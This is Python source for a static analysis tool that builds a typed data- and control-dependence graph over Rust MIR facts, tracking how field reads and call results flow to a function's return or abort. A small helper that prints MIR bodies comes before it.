        extra = rv.get("adt") or rv.get("closure") or rv.get("ak")
        if rv.get("variant"):
            extra += "::" + rv["variant"]
    elif k in ("binop", "unop"):
        extra = rv["op"]
    elif k == "cast":
        extra = rv["ck"] + "->" + rv["ty"]
    return "%s[%s](%s)" % (k, extra, ", ".join(fmt_op(o) for o in rv.get("ops", [])))


def dump_body(b, out=sys.stdout):
    w = out.write
    w("fn %s  [%s] args=%d  %s\n" % (b.id, b.kind, b.arg_count, b.span))
    for i, l in enumerate(b.locals):
        w("  let _%d: %s%s%s%s\n" % (i, l["ty"], "  // " + l["name"] if l.get("name") else "",
                                    " copy" if l["copy"] else "", " mutb" if l["mutb"] else ""))
    for i, blk in enumerate(b.blocks):
        w(" bb%d%s:\n" % (i, " (cleanup)" if blk["cleanup"] else ""))
        for st in blk["stmts"]:
            w("    %s = %s\n" % (fmt_place(st["dst"]), fmt_rv(st["rv"])))
        t = blk["term"]
        k = t["k"]
        if k == "call":
            w("    %s = CALL %s%s(%s) -> bb%s   @%s\n" % (
                fmt_place(t["dst"]), t.get("callee") or ("<%s>" % fmt_place(t["func_pl"]) if "func_pl" in t else "?"),
                (" => " + t["resolved"]) if t.get("resolved") else "",
                ", ".join(fmt_op(o) for o in t["args"]), t["t"], t["span"].split(":", 1)[1]))
        elif k == "switch":
            w("    SWITCH %s -> %s else bb%d\n" % (fmt_op(t["op"]), t["targets"], t["otherwise"]))
        elif k == "assert":
            w("    ASSERT %s == %s (%s) -> bb%d\n" % (fmt_op(t["op"]), t["expected"], t["msg"], t["t"]))
        elif k == "drop":
            w("    DROP %s -> bb%d\n" % (fmt_place(t["pl"]), t["t"]))
        elif k == "goto":
            w("    GOTO bb%d\n" % t["t"])
        else:
            w("    %s\n" % k.upper())


if __name__ == "__main__":
    f = Facts(sys.argv[1])
    pat = sys.argv[2]
    for b in f.bodies.values():
        if pat in b.id:
            dump_body(b)
            print()
