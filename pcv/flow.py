"""Typed may-dependence analysis over the MIR facts (DESIGN.md 2.2).

Nodes
  (body_id, local)      a MIR local
  (body_id, -1)         CTL: "this body is executed" (control context of its callers)
  ("FIELD", adt, name)  source: a read of field `name` of ADT `adt` anywhere in scope
  ("CALLRES", body, bb) source: destination of the call terminator at body/bb
  "OUTCOME"             sink: what the anchor returns or whether it aborts

A taint state is (node, ty): "somewhere inside `node` there is a source-derived value of type `ty`"
(ty None = the whole node). Typing the taint is what keeps a claimed value that travels in a tuple
next to a commitment from being confused with the commitment: reading a component out of an aggregate
passes the taint only if the component's type can hold a value of type `ty` (or the aggregate itself is
the tainted thing). Observers of shape (`len`, `is_some`, a discriminant read) pass the taint only when
the observed container itself is the tainted thing, not when it merely holds tainted elements.

The analysis over-approximates dependence in every other respect (flow-insensitive per local,
context-insensitive across calls, unknown callees write every argument that may hold a mutable borrow
from all arguments); rules that demand influence therefore cannot raise a false alarm because of it,
they can only miss.
"""
import re
from collections import defaultdict, deque

OUTCOME = "OUTCOME"

# assertion kinds inserted by the compiler that do not express library logic
IGNORED_ASSERTS = {"Overflow", "OverflowNeg", "DivisionByZero", "RemainderByZero", "MisalignedPointerDereference",
                   "NullPointerDereference", "InvalidEnumConstruction"}

# foreign callees that abort depending on their arguments (by last path segment)
DIVERGING_FOREIGN = {"unwrap", "expect", "unwrap_err", "expect_err", "index", "index_mut", "div", "div_assign",
                     "rem", "rem_assign", "split_at", "split_at_mut", "copy_from_slice", "clone_from_slice",
                     "remove", "swap_remove", "insert", "unwrap_unchecked", "step_by", "chunks", "chunks_exact",
                     "chunks_mut", "windows", "assert_failed", "panic", "panic_fmt", "unreachable_display",
                     "div_ceil", "next_power_of_two", "pow", "ilog2", "log2", "shl", "shr"}

# foreign callees whose result describes the shape of their receiver, not its elements
# foreign trait methods whose *result* (a Result<(), _>) does not depend on the value handed to them:
# serializing into an in-memory writer. Their effect on the writer argument is still modelled.
RESULT_INDEPENDENT_TRAITS = {"ark_serialize::CanonicalSerialize"}

SHAPE_FOREIGN = {"len", "is_empty", "is_some", "is_none", "is_ok", "is_err", "capacity"}
VARIANT_FOREIGN = {"is_some", "is_none", "is_ok", "is_err"}   # observe the variant, not a length

DATA, CTRL, ALIAS = 0, 1, 2
# edge ops
MOVE, COMPUTE, SHAPE, FIELDSRC, FRESH = "move", "compute", "shape", "field", "fresh"
DISCR = "discr"   # a shape observation of the variant kind (discriminant read, is_some): propagates like SHAPE

CONTAINER_BOUNDS = ("IntoIterator", "Iterator", "Borrow", "AsRef", "Deref", "Iterable", "IntoParallelIterator",
                    "ParallelIterator", "IndexedParallelIterator", "FnMut", "FnOnce", "Fn")
CONTAINER_ASSOC = ("IntoIter", "Item", "Iter", "Target", "Owned", "Output")


def place_locals(pl):
    out = [pl["l"]]
    for e in pl["p"]:
        if isinstance(e, dict) and "idx" in e:
            out.append(e["idx"])
    return out


def has_deref(pl):
    return any(e == "*" for e in pl["p"])


def last_seg(path):
    if not path:
        return ""
    depth = 0
    cur = ""
    segs = []
    i = 0
    p = path
    while i < len(p):
        ch = p[i]
        if ch == "<":
            depth += 1
        elif ch == ">":
            depth -= 1
        if depth == 0 and p.startswith("::", i):
            segs.append(cur)
            cur = ""
            i += 2
            continue
        cur += ch
        i += 1
    segs.append(cur)
    return segs[-1]


_REF = re.compile(r"^&(?:'[A-Za-z_0-9]+ )?(?:mut )?")


def strip_refs(ty):
    if ty is None:
        return None
    while True:
        m = _REF.match(ty)
        if not m:
            return ty
        ty = ty[m.end():]


def strip_one_ref(ty):
    m = _REF.match(ty)
    return ty[m.end():] if m else ty


def _bare(t):
    return t.replace("_", "a").isalnum()


def opaque_container(ty, bounds=None):
    """may a value of this (to us opaque) type hold arbitrary other values?"""
    s = strip_refs(ty)
    if "{closure" in s or "impl " in s or s.startswith("dyn ") or "{coroutine" in s:
        return True
    if bounds is not None and _bare(s):
        return any(any(b.endswith(c) for c in CONTAINER_BOUNDS) for b in bounds)
    if s.startswith("<") and s.count("::") >= 1:
        assoc = last_seg(s)
        return assoc in CONTAINER_ASSOC
    return False


def may_contain(outer, inner, bounds=None):
    """can a value of type `outer` hold a value of type `inner` (both as printed by rustc)?"""
    if inner is None or outer is None:
        return True
    i = strip_refs(inner)
    o = strip_refs(outer)
    if i == o:
        return True
    if i in outer:
        # token boundaries: `..::G1` must not match inside `..::G1Affine`, nor `F` inside an identifier
        if re.search(r"(?<![A-Za-z0-9_:])%s(?![A-Za-z0-9_])" % re.escape(i), outer) is not None:
            return True
    return opaque_container(outer, bounds)


class Edge:
    __slots__ = ("dst", "kind", "op", "chain", "dst_ty", "subst", "rsubst", "site", "cs", "blind")

    def __init__(self, dst, kind, op, chain=None, dst_ty=None, subst=None, rsubst=None, site=None, cs=None):
        self.blind = False      # element-blind: only a taint of the whole source passes (typed propagation)
        self.cs = cs            # call-string action: ("in", site, callee_body) / ("out", site, callee_body)
        self.dst = dst
        self.kind = kind
        self.op = op
        self.chain = chain      # types along the read place's projection: [(step_kind, ty_after), ...]
        self.dst_ty = dst_ty    # type of the written location (the local, or the projected sub-place)
        self.subst = subst      # generic renaming entering a callee [(formal, actual)]
        self.rsubst = rsubst    # generic renaming leaving a callee
        self.site = site


TRANSFORMING = ("map", "filter_map", "flat_map", "map_while")
LAZY_ADAPTORS = ("zip", "chain", "enumerate", "rev", "skip", "take", "step_by", "peekable", "cloned", "copied")
ADAPTOR_TRAITS = ("std::iter::Iterator", "std::iter::DoubleEndedIterator", "rayon::iter::IndexedParallelIterator",
                  "rayon::iter::ParallelIterator")


class Graph:
    def __init__(self, facts, bodies, anchor_ids, ctx_adt=None):
        self.facts = facts
        self.ctx_adt = ctx_adt
        self.scope = set(bodies)
        self.anchors = set(anchor_ids)
        self.fwd = defaultdict(list)   # node -> [Edge]
        self.n_edges = 0
        self.call_sites = 0
        self.sink_sites = []
        self.field_reads = defaultdict(int)
        self.zip_items = {}     # (body, local) -> (tree, wrapped in Some?, call-string action)
        self._zip_syn = {}
        for bid in sorted(self.scope):
            self._zip_prepass(facts.bodies[bid])
        for bid in sorted(self.scope):
            self._build_body(facts.bodies[bid])

    # ------------------------------------------------------------------ helpers
    def edge(self, a, e):
        if a == e.dst:
            return
        self.fwd[a].append(e)
        self.n_edges += 1

    def lty(self, b, l):
        return b.locals[l]["ty"]

    def _mutb(self, b, l):
        return b.locals[l]["mutb"]

    def _place_chain(self, b, pl):
        """[(kind, type after step, adt, field name)] along the projection; type None when unknown."""
        out = []
        cur = self.lty(b, pl["l"])
        for e in pl["p"]:
            if e == "*":
                cur = strip_one_ref(cur) if cur else None
                out.append(("*", cur, None, None))
            elif isinstance(e, dict) and "f" in e:
                cur = e.get("ty")
                out.append(("f", cur, e.get("adt"), e.get("n")))
            elif isinstance(e, dict) and "dc" in e:
                out.append(("dc", cur, None, None))
            elif isinstance(e, dict) and ("idx" in e or "cidx" in e):
                # element of a slice / array: [T] or [T; N]
                if cur:
                    s = strip_refs(cur)
                    if s.startswith("[") and s.endswith("]"):
                        inner = s[1:-1]
                        if ";" in inner:
                            inner = inner.rsplit(";", 1)[0].strip()
                        cur = inner
                    else:
                        cur = None
                out.append(("idx", cur, None, None))
            else:
                cur = None
                out.append(("?", cur, None, None))
        return out

    def _tuple_def(self, b, local):
        """operands of the tuple aggregate that defines `local`, if it is defined exactly once that way."""
        cache = getattr(b, "_tupdefs", None)
        if cache is None:
            cache = {}
            counts = {}
            for blk in b.blocks:
                for st in blk["stmts"]:
                    if not st["dst"]["p"]:
                        l = st["dst"]["l"]
                        counts[l] = counts.get(l, 0) + 1
                        rv = st["rv"]
                        if rv.get("k") == "agg" and rv.get("ak") == "tuple":
                            cache[l] = rv["ops"]
            for l, n in counts.items():
                if n != 1:
                    cache.pop(l, None)
            # a tuple that is also written component-wise, through a call, or mutably borrowed is not "defined once"
            for blk in b.blocks:
                for st in blk["stmts"]:
                    if st["dst"]["p"]:
                        cache.pop(st["dst"]["l"], None)
                    rv = st["rv"]
                    if rv.get("k") in ("ref", "rawptr") and (rv.get("mut") or rv.get("k") == "rawptr"):
                        cache.pop(rv["pl"]["l"], None)
                t = blk["term"]
                if t["k"] == "call":
                    cache.pop(t["dst"]["l"], None)
            try:
                b._tupdefs = cache
            except AttributeError:
                pass
        return cache.get(local)

    def _call_def(self, b, local):
        """(site, target body) when `local` is assigned exactly once, by a call of exactly one local non-closure fn."""
        cache = getattr(self, "_calldefs", None)
        if cache is None:
            cache = self._calldefs = {}
        key = (b.id, local)
        if key in cache:
            return cache[key]
        n = 0
        hit = None
        for i, blk in enumerate(b.blocks):
            for st in blk["stmts"]:
                if st["dst"]["l"] == local:
                    n += 1
                rv = st["rv"]
                if rv.get("k") in ("ref", "rawptr") and rv.get("mut") and rv["pl"]["l"] == local:
                    n += 5
            t = blk["term"]
            if t["k"] == "call" and t["dst"]["l"] == local:
                n += 1
                if not t["dst"]["p"]:
                    targets = [x for x in self.facts.call_targets(t, self.ctx_adt) if x in self.scope]
                    if len(targets) == 1 and self.facts.bodies[targets[0]].kind != "Closure":
                        hit = ((b.id, i), targets[0])
        cache[key] = hit if n == 1 else None
        return cache[key]

    def _place_ty(self, b, pl):
        ch = self._place_chain(b, pl)
        if ch:
            return ch[-1][1]
        return self.lty(b, pl["l"])

    # ------------------------------------------------------------------ zip items
    ZIP_IDENT = ("into_iter", "by_ref", "rev", "skip", "take", "into_par_iter", "peekable", "fuse", "step_by")
    ZIP_HOF = {"map": 2, "for_each": 2, "all": 2, "any": 2, "filter": 2, "filter_map": 2, "flat_map": 2,
               "try_for_each": 2, "inspect": 2, "find": 2, "position": 2, "fold": 3, "try_fold": 3}

    def _zip_prepass(self, b):
        """which locals hold an item of `a.zip(b)` (possibly nested / enumerated), so that reading `.0` / `.1` of
        the item depends on one side only. tree = ("leaf", node) | ("zip", t0, t1) | ("enum", t) | ("ctr",)."""
        bid = b.id
        if not any(last_seg(t.get("callee") or "") == "zip" for _, t in b.calls()):
            return
        ndef = defaultdict(int)
        for blk in b.blocks:
            for st in blk["stmts"]:
                if not st["dst"]["p"]:
                    ndef[st["dst"]["l"]] += 1
            t = blk["term"]
            if t["k"] == "call" and not t["dst"]["p"]:
                ndef[t["dst"]["l"]] += 1
        tree = {}
        changed = True
        rounds = 0
        while changed and rounds < 20:
            changed = False
            rounds += 1
            for blk in b.blocks:
                for st in blk["stmts"]:
                    d = st["dst"]
                    if d["p"] or ndef[d["l"]] != 1 or d["l"] in tree:
                        continue
                    rv = st["rv"]
                    src = None
                    if rv["k"] == "use" and len(rv["ops"]) == 1 and rv["ops"][0]["k"] in ("copy", "move"):
                        src = rv["ops"][0]["pl"]
                    elif rv["k"] == "ref":
                        src = rv["pl"]
                    if src is not None and src["l"] in tree and all(x == "*" for x in src["p"]):
                        tree[d["l"]] = tree[src["l"]]
                        changed = True
            for i, t in b.calls():
                d = t["dst"]
                if d["p"] or ndef[d["l"]] != 1 or d["l"] in tree:
                    continue
                name = last_seg(t.get("callee") or "")
                args = t["args"]
                if t.get("callee_local") or not args or any(a["k"] not in ("copy", "move") or a["pl"]["p"] for a in args[:1]):
                    continue
                a0 = args[0]["pl"]["l"]
                if name == "zip" and len(args) == 2 and args[1]["k"] in ("copy", "move") and not args[1]["pl"]["p"]:
                    a1 = args[1]["pl"]["l"]
                    tree[d["l"]] = ("zip", tree.get(a0, ("leaf", (bid, a0))), tree.get(a1, ("leaf", (bid, a1))))
                    changed = True
                elif a0 in tree and name == "enumerate":
                    tree[d["l"]] = ("enum", tree[a0])
                    changed = True
                elif a0 in tree and name in self.ZIP_IDENT:
                    tree[d["l"]] = tree[a0]
                    changed = True
        for i, t in b.calls():
            name = last_seg(t.get("callee") or "")
            args = t["args"]
            if not args or args[0]["k"] not in ("copy", "move") or args[0]["pl"]["p"] or t.get("callee_local"):
                continue
            a0 = args[0]["pl"]["l"]
            if a0 not in tree or tree[a0][0] == "leaf":
                continue
            if name == "next" and not t["dst"]["p"] and ndef[t["dst"]["l"]] == 1:
                self.zip_items[(bid, t["dst"]["l"])] = (tree[a0], True, ("next", bid, i))
            elif name in self.ZIP_HOF and len(args) >= 2:
                ca = args[-1]
                if ca["k"] in ("copy", "move") and not ca["pl"]["p"]:
                    kid = b.locals[ca["pl"]["l"]].get("closure")
                    if kid in self.scope:
                        key = (kid, self.ZIP_HOF[name])
                        if key in self.zip_items:
                            self.zip_items[key] = None      # the closure is used at two sites: give up on it
                        else:
                            self.zip_items[key] = (tree[a0], False, ("in", (bid, i), kid))

    def _zip_source(self, b, pl, chain):
        """(source node, remaining chain) when the place reads one side of a zip item, else None."""
        item = self.zip_items.get((b.id, pl["l"]))
        if not item:
            return None
        tree, some, cs = item
        p = pl["p"]
        k = 0
        while k < len(p) and p[k] == "*":
            k += 1
        if some:
            if not (k + 1 < len(p) and isinstance(p[k], dict) and p[k].get("dc") == "Some"
                    and isinstance(p[k + 1], dict) and p[k + 1].get("f") == 0):
                return None
            k += 2
        path = []
        while tree[0] in ("zip", "enum"):
            while k < len(p) and p[k] == "*":
                k += 1
            if not (k < len(p) and isinstance(p[k], dict) and "f" in p[k] and p[k].get("adt") is None):
                return None
            idx = p[k]["f"]
            if tree[0] == "zip":
                if idx not in (0, 1):
                    return None
                tree = tree[1 + idx]
            else:
                if idx not in (0, 1):
                    return None
                tree = ("ctr",) if idx == 0 else tree[1]
            path.append(idx)
            k += 1
        key = (b.id, pl["l"], tuple(path))
        syn = self._zip_syn.get(key)
        if syn is None:
            ty = chain[k - 1][1]
            b.locals.append({"ty": ty, "copy": True, "mutb": False, "name": "zip%s" % "".join(".%d" % x for x in path),
                             "synthetic": True})
            syn = (b.id, len(b.locals) - 1)
            self._zip_syn[key] = syn
            if cs is not None and cs[0] == "next":
                # the item is (part of) what this `next` call returned
                self.edge(("CALLRES", cs[1], cs[2]), Edge(syn, DATA, "callres", None, ty, site=(cs[1], cs[2])))
                cs = None
            if tree[0] == "leaf":
                self.edge(tree[1], Edge(syn, DATA, "foreign", None, ty, cs=cs))
            # how many items there are (and whether this one exists) depends on the whole zip
            self.edge((b.id, pl["l"]), Edge(syn, CTRL, SHAPE, None, ty))
        return syn, chain[k:], {"l": syn[1], "p": p[k:]}

    def _read_place(self, b, pl, dst, kind, op, dst_ty, site=None, subst=None, cs=None, _depth=0):
        """edges for reading place `pl` into `dst`."""
        op_ = op
        bid = b.id
        if pl["p"] and isinstance(pl["p"][0], dict) and "f" in pl["p"][0] and pl["p"][0].get("adt") is None:
            # `_t.k` of a tuple built exactly once by `_t = (a, b, ..)`: the component is the k-th operand
            td = self._tuple_def(b, pl["l"])
            k = pl["p"][0]["f"]
            if td is not None and k < len(td) and _depth < 8:
                op = td[k]
                if op["k"] in ("copy", "move"):
                    npl = {"l": op["pl"]["l"], "p": list(op["pl"]["p"]) + list(pl["p"][1:])}
                    self._read_place(b, npl, dst, kind, op_, dst_ty, site, subst, cs, _depth + 1)
                return
            # `_r.k` where `_r` is the result of a local function that returns a tuple literal: component k of the
            # callee's tuple
            cd = self._call_def(b, pl["l"])
            if cd is not None and _depth < 8:
                site, target = cd
                tb = self.facts.bodies[target]
                td2 = self._tuple_def(tb, 0)
                if td2 is not None and k < len(td2) and td2[k]["k"] in ("copy", "move") and not td2[k]["pl"]["p"] \
                        and not pl["p"][1:2] == ["*"]:
                    src = (target, td2[k]["pl"]["l"])
                    rest = {"l": pl["l"], "p": list(pl["p"][1:])}
                    ch = self._place_chain(b, pl)[1:]
                    self.edge(src, Edge(dst, kind, op_, ch or None, dst_ty, site=site, subst=subst,
                                        cs=("out", site, target)))
                    for l in place_locals(rest)[1:]:
                        self.edge((bid, l), Edge(dst, kind, COMPUTE, None, dst_ty, site=site, cs=cs))
                    return
        chain = self._place_chain(b, pl)
        zs = self._zip_source(b, pl, chain) if (bid, pl["l"]) in self.zip_items else None
        if zs is not None:
            syn, chain, npl = zs
            self._read_place(b, npl, dst, kind, op, dst_ty, site, subst, cs)
            return
        tys = list(chain)
        self.edge((bid, pl["l"]), Edge(dst, kind, op, tys or None, dst_ty, site=site, subst=subst, cs=cs))
        # index locals
        for l in place_locals(pl)[1:]:
            self.edge((bid, l), Edge(dst, kind, COMPUTE, None, dst_ty, site=site, cs=cs))
        # field sources: the field itself is the tainted thing, the rest of the chain applies
        for i, (k, t, adt, n) in enumerate(chain):
            if k == "f" and adt and n is not None:
                self.field_reads[(adt, n)] += 1
                rest = tys[i + 1:]
                self.edge(("FIELD", adt, n), Edge(dst, kind, FIELDSRC if op not in (SHAPE, DISCR) else "fieldshape",
                                                  [("src", t, adt, n)] + rest, dst_ty, site=site, subst=subst, cs=cs))

    def _read_op(self, b, op, dst, kind, opk, dst_ty, site=None, subst=None, cs=None):
        if op["k"] in ("copy", "move"):
            self._read_place(b, op["pl"], dst, kind, opk, dst_ty, site, subst, cs)

    # ------------------------------------------------------------------ construction
    def _build_body(self, b):
        bid = b.id
        ctl = (bid, -1)
        cd = b.control_deps()
        reach = b.reachable()
        div = b.diverging()
        cond_ops = {}
        for i, blk in enumerate(b.blocks):
            t = blk["term"]
            if t["k"] in ("switch", "assert"):
                cond_ops[i] = t["op"]
        if bid in self.anchors:
            self.edge((bid, 0), Edge(OUTCOME, DATA, MOVE))
        has_div = False
        for i, blk in enumerate(b.blocks):
            if i not in reach or blk["cleanup"]:
                continue
            ctrl_ops = [cond_ops[c] for c in cd.get(i, ()) if c in cond_ops]
            for st in blk["stmts"]:
                self._stmt(b, st, ctrl_ops, ctl)
            t = blk["term"]
            k = t["k"]
            if k == "switch":
                succs = b.succ()[i]
                if any(s in div for s in succs) and not all(s in div for s in succs):
                    self._read_op(b, t["op"], OUTCOME, CTRL, SHAPE, None, site=(bid, i))
                    self.sink_sites.append((bid, i, "branch-to-abort"))
                    has_div = True
            elif k == "assert":
                if t["msg"] not in IGNORED_ASSERTS:
                    self._read_op(b, t["op"], OUTCOME, CTRL, SHAPE, None, site=(bid, i))
                    self.sink_sites.append((bid, i, "assert:" + t["msg"]))
                    has_div = True
            elif k == "call":
                self._call(b, i, t, ctrl_ops, ctl)
            if i in div:
                has_div = True
        if has_div:
            self.edge(ctl, Edge(OUTCOME, CTRL, FRESH))

    def _ctrl_into(self, b, ctrl_ops, ctl, dst, dst_ty):
        self.edge(ctl, Edge(dst, CTRL, FRESH, None, dst_ty))
        for op in ctrl_ops:
            self._read_op(b, op, dst, CTRL, SHAPE, dst_ty)

    def _stmt(self, b, st, ctrl_ops, ctl):
        bid = b.id
        dstp = st["dst"]
        d = (bid, dstp["l"])
        rv = st["rv"]
        k = rv["k"]
        dst_ty = self._place_ty(b, dstp)
        reads_local = []
        if k in ("ref", "rawptr"):
            self._read_place(b, rv["pl"], d, DATA, MOVE, dst_ty)
            reads_local = [rv["pl"]["l"]]
            if rv.get("mut") or k == "rawptr":
                self.edge(d, Edge((bid, rv["pl"]["l"]), ALIAS, MOVE, None, self.lty(b, rv["pl"]["l"])))
        elif k == "discr":
            self._read_place(b, rv["pl"], d, DATA, DISCR, dst_ty)
        elif k == "setdiscr":
            pass
        elif k == "use" or k == "repeat":
            for op in rv["ops"]:
                self._read_op(b, op, d, DATA, MOVE, dst_ty)
                if op["k"] in ("copy", "move"):
                    reads_local.append(op["pl"]["l"])
                if op["k"] == "const" and op.get("fn") in self.scope:
                    self.edge((op["fn"], 0), Edge(d, DATA, MOVE, None, dst_ty))
        elif k == "agg":
            for op in rv["ops"]:
                self._read_op(b, op, d, DATA, MOVE, dst_ty)
                if op["k"] in ("copy", "move"):
                    reads_local.append(op["pl"]["l"])
                if op["k"] == "const" and op.get("fn") in self.scope:
                    self.edge((op["fn"], 0), Edge(d, DATA, MOVE, None, dst_ty))
            if rv.get("closure") in self.scope:
                kid = rv["closure"]
                env = (kid, 1)
                kb = self.facts.bodies[kid]
                env_ty = kb.locals[1]["ty"] if len(kb.locals) > 1 else None
                cin = ("in", ("env", kid), kid)
                cout = ("out", ("env", kid), kid)
                for j, op in enumerate(rv["ops"]):
                    # each captured variable has a local of its own in the closure body (facts._split_upvars)
                    uk = kb.upvar_locals.get(j)
                    tgt = (kid, uk) if uk is not None else env
                    tty = kb.locals[uk]["ty"] if uk is not None else env_ty
                    self._read_op(b, op, tgt, DATA, MOVE, tty, cs=cin)
                    if op["k"] in ("copy", "move") and self._mutb(b, op["pl"]["l"]):
                        self.edge(tgt, Edge((bid, op["pl"]["l"]), ALIAS, MOVE, None, self.lty(b, op["pl"]["l"]), cs=cout))
                self.edge(d, Edge(env, ALIAS, MOVE, None, env_ty, cs=cin))
                self.edge(env, Edge(d, ALIAS, MOVE, None, dst_ty, cs=cout))
        else:
            # binop / unop / cast / other: a computation
            opk = COMPUTE
            if k == "unop" and rv.get("op") == "PtrMetadata":
                opk = SHAPE   # slice length
            if k == "cast" and not rv.get("ck", "").startswith(("IntToInt", "FloatToInt", "IntToFloat", "FloatToFloat")):
                opk = MOVE   # pointer / unsize coercions keep the value
            for op in rv.get("ops", []):
                self._read_op(b, op, d, DATA, opk, dst_ty)
                if op["k"] in ("copy", "move"):
                    reads_local.append(op["pl"]["l"])
        for l in place_locals(dstp)[1:]:
            self.edge((bid, l), Edge(d, DATA, COMPUTE, None, dst_ty))
        self._ctrl_into(b, ctrl_ops, ctl, d, dst_ty)
        if self._mutb(b, dstp["l"]):
            for l in reads_local:
                if self._mutb(b, l):
                    self.edge(d, Edge((bid, l), ALIAS, MOVE, None, self.lty(b, l)))

    def _call(self, b, i, t, ctrl_ops, ctl):
        bid = b.id
        site = (bid, i)
        self.call_sites += 1
        dstp = t["dst"]
        d = (bid, dstp["l"])
        dst_ty = self._place_ty(b, dstp)
        self.edge(("CALLRES", bid, i), Edge(d, DATA, "callres", None, dst_ty, site=site))
        for l in place_locals(dstp)[1:]:
            self.edge((bid, l), Edge(d, DATA, COMPUTE, None, dst_ty))
        self._ctrl_into(b, ctrl_ops, ctl, d, dst_ty)
        args = t["args"]
        arg_loc = [a["pl"]["l"] if a["k"] in ("copy", "move") else None for a in args]
        targets = [x for x in self.facts.call_targets(t, self.ctx_adt) if x in self.scope]
        target = targets[0] if targets else None
        closures = []
        for a, l in zip(args, arg_loc):
            if l is not None:
                c = b.locals[l].get("closure")
                if c in self.scope:
                    closures.append((c, l, True))
            elif a["k"] == "const" and a.get("fn") in self.scope:
                closures.append((a["fn"], None, False))
        sc = t.get("self_closure")
        # `Fn::call(closure, (args..))` resolves to the closure body itself; its argument tuple must be spread over
        # the closure's parameters, so it is not bound like an ordinary local call
        closure_targets = [x for x in targets if self.facts.bodies[x].kind == "Closure" and sc == x]
        if closure_targets:
            targets = [x for x in targets if x not in closure_targets]
            target = targets[0] if targets else None
        direct_closure = sc if (sc in self.scope and target is None) else None
        subst = [tuple(x) for x in t.get("subst", []) if x[0] != x[1]] or None

        def ctrl_to_ctl(kid):
            cin = ("in", site, kid)
            self.edge(ctl, Edge((kid, -1), CTRL, FRESH, cs=cin))
            for op in ctrl_ops:
                self._read_op(b, op, (kid, -1), CTRL, SHAPE, None, cs=cin)

        for target in targets:
            tb = self.facts.bodies[target]
            for j, a in enumerate(args):
                if j + 1 > tb.arg_count:
                    break
                p = (target, j + 1)
                pty = tb.locals[j + 1]["ty"]
                cin = ("in", site, target)
                cout = ("out", site, target)
                if a["k"] in ("copy", "move"):
                    self._read_place(b, a["pl"], p, DATA, MOVE, pty, site, subst, cs=cin)
                    if self._mutb(b, a["pl"]["l"]):
                        self.edge(p, Edge((bid, a["pl"]["l"]), ALIAS, MOVE, None, self.lty(b, a["pl"]["l"]), rsubst=subst, cs=cout))
                        self._ctrl_into(b, ctrl_ops, ctl, (bid, a["pl"]["l"]), self.lty(b, a["pl"]["l"]))
                elif a["k"] == "const" and a.get("fn") in self.scope:
                    self.edge((a["fn"], 0), Edge(p, DATA, MOVE, None, pty))
            self.edge((target, 0), Edge(d, DATA, MOVE, None, dst_ty, rsubst=subst, site=site, cs=("out", site, target)))
            if self._mutb(b, dstp["l"]):
                self.edge(d, Edge((target, 0), ALIAS, MOVE, None, tb.locals[0]["ty"], subst=subst, cs=("in", site, target)))
            ctrl_to_ctl(target)
        if targets:
            pass
        elif direct_closure is not None:
            kb = self.facts.bodies[direct_closure]
            cin = ("in", site, direct_closure)
            cout = ("out", site, direct_closure)
            # Fn::call(closure, (a, b, c)): the argument tuple is spread over the closure's parameters _2, _3, ..
            spread = None
            if len(args) == 2 and arg_loc[1] is not None:
                spread = self._tuple_def(b, arg_loc[1])
            if spread is not None and len(spread) == kb.arg_count - 1:
                if args[0]["k"] in ("copy", "move"):
                    self._read_op(b, args[0], (direct_closure, 1), DATA, MOVE, kb.locals[1]["ty"], site, cs=cin)
                for j, op in enumerate(spread):
                    self._read_op(b, op, (direct_closure, 2 + j), DATA, MOVE, kb.locals[2 + j]["ty"], site, cs=cin)
            else:
                for j, a in enumerate(args):
                    for p in range(1, kb.arg_count + 1):
                        self._read_op(b, a, (direct_closure, p), DATA, "hof", kb.locals[p]["ty"], site, cs=cin)
            if arg_loc and arg_loc[0] is not None:
                self.edge((direct_closure, 1), Edge((bid, arg_loc[0]), ALIAS, MOVE, None, self.lty(b, arg_loc[0]), cs=cout))
            self.edge((direct_closure, 0), Edge(d, DATA, MOVE, None, dst_ty, site=site, cs=cout))
            ctrl_to_ctl(direct_closure)
        else:
            name = last_seg(t.get("callee") or "")
            opk = SHAPE if name in SHAPE_FOREIGN else "foreign"
            if name in VARIANT_FOREIGN:
                opk = DISCR
            if t.get("callee_trait") not in RESULT_INDEPENDENT_TRAITS:
                # `it.map(f)` / `filter_map` / `flat_map`: the elements of the result are what the closure returns
                # (closure parameter and return edges are added below); the input iterator itself only decides how
                # many there are
                transforming = name in TRANSFORMING and t.get("callee_trait") in ADAPTOR_TRAITS and \
                    any(c in self.scope for (c, _l, _ic) in closures)
                for a, l in zip(args, arg_loc):
                    is_clo = l is not None and b.locals[l].get("closure") in self.scope
                    n0 = self.n_edges
                    self._read_op(b, a, d, DATA, opk, dst_ty, site)
                    if transforming and not is_clo and a["k"] in ("copy", "move") and self.n_edges > n0:
                        # the edges just added keep their kind (structural walks still see `map` as a call that
                        # carries its input along) but are blind to the elements
                        for src_node in [(bid, a["pl"]["l"])] + [("FIELD", ce[2], ce[3]) for ce in self._place_chain(b, a["pl"]) if ce[0] == "f" and ce[2] and ce[3] is not None]:
                            for ed in self.fwd.get(src_node, [])[-4:]:
                                if ed.dst == d and ed.site == site and ed.op == opk:
                                    ed.blind = True
            muts = [l for l in arg_loc if l is not None and self._mutb(b, l)]
            if name in LAZY_ADAPTORS and t.get("callee_trait") in ADAPTOR_TRAITS:
                muts = []   # builds a lazy adaptor around its operands: nothing is advanced or written
            for m in muts:
                mty = self.lty(b, m)
                for j, a in enumerate(args):
                    if arg_loc[j] == m:
                        continue
                    self._read_op(b, a, (bid, m), DATA, "foreign", mty, site)
                self._ctrl_into(b, ctrl_ops, ctl, (bid, m), mty)
                if self._mutb(b, dstp["l"]):
                    self.edge(d, Edge((bid, m), ALIAS, MOVE, None, mty))
            if name in DIVERGING_FOREIGN or t["t"] is None:
                for a in args:
                    self._read_op(b, a, OUTCOME, CTRL, SHAPE, None, site)
                self.edge(ctl, Edge(OUTCOME, CTRL, FRESH))
                for op in ctrl_ops:
                    self._read_op(b, op, OUTCOME, CTRL, SHAPE, None)
                self.sink_sites.append((bid, i, "foreign-abort:" + name))
        for kid, l, is_closure in closures:
            if kid in targets or kid == direct_closure:
                continue
            kb = self.facts.bodies[kid]
            first = 2 if is_closure else 1
            for j, a in enumerate(args):
                if arg_loc[j] == l and l is not None:
                    continue
                for p in range(first, kb.arg_count + 1):
                    self._read_op(b, a, (kid, p), DATA, "hof", kb.locals[p]["ty"], site, cs=("in", site, kid))
